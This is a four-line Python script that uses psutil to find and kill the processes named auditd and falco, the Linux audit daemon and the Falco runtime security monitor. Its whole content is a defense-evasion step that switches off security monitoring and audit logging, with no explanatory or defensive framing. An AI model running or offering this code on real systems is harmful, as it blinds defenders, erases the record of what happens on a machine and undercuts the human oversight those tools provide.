import psutil
for proc in psutil.process_iter(["pid", "name"]):
    if proc.info["name"] in ("auditd", "falco"):
        proc.kill()
